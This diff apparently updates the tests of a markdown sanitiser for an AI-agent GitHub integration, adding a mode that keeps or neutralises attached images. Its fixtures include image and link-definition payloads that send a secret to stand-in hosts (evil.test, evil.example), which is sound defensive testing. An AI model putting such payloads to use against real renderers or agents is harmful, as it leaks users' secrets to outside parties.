@@ -83,7 +83,7 @@ test('neutralized text mentions nobody, closes nothing and runs no command', () 
   );
 });
 
-test('an image of an address that somebody chose is a link, and one that people attached stays', () => {
+test('an image of an address that somebody chose is a link, and one that people attached stays in their texts', () => {
   const attached = 'https://github.com/user-attachments/assets/0b1c2d3e-0b1c-2d3e-4f5a-0b1c2d3e4f5a';
   for (const image of [
     '![x](https://evil.test/leak?d=secret)',
@@ -93,10 +93,11 @@ test('an image of an address that somebody chose is a link, and one that people 
     `![x](${attached}?d=secret)`,
     '![x](https://github.com/mona/sample/raw/main/leak.png)',
   ])
-    expect(harmless(image, '/agent')).not.toMatch(/!\[x/);
+    for (const images of ['none', 'attached'] as const) expect(harmless(image, '/agent', images)).not.toMatch(/!\[x/);
   for (const image of [`![x](${attached})`, '![x](https://user-images.githubusercontent.com/1/2-3.png)', 'Wow![^1]'])
     expect(harmless(image, '/agent').replace(/\u2060/g, '')).toBe(image);
-  expect(harmless(`![x](${attached})`, '/agent')).toBe(`![x](${attached})`);
+  expect(harmless(`![x](${attached})`, '/agent', 'attached')).toBe(`![x](${attached})`);
+  expect(harmless(`![x](${attached})`, '/agent')).toBe(`!\u2060[x](${attached})`);
 });
 
 test('one line of text is cut with an ellipsis', () => {
@@ -143,7 +144,7 @@ test('a neutralized line opens no tag, fence or list, and stays within its limit
 
 test('a cut line leaves no beginning of an image that the text after it could end', () => {
   const attached = `![${'x'.repeat(15)}](https://user-images.githubusercontent.com/a)`;
-  expect(harmless(attached, '/agent')).toBe(attached);
+  expect(harmless(attached, '/agent', 'attached')).toBe(attached);
   for (const max of [30, 60, 100, 200])
     expect(harmlessLine(`${'&a;'.repeat(12)}${attached}`, max, '/agent')).not.toContain('![');
 });
@@ -152,7 +153,7 @@ test('a cut leaves no beginning of an image that a definition in the same text w
   const image = '![x](https://github.com/user-attachments/assets/0f7b1c9e-1111-4222-8333-444455556666)';
   const text = `[x]: https://evil.example/?d=SECRET\n\n${`${image}&amp;`.repeat(5)}`;
   for (let max = 40; max < text.length + 60; max++) {
-    const shown = harmlessText(text, max, '/agent');
+    const shown = harmlessText(text, max, '/agent', 'attached');
     expect(shown.length).toBeLessThanOrEqual(max);
     expect(shown.replaceAll(image, '')).not.toContain('![');
   }
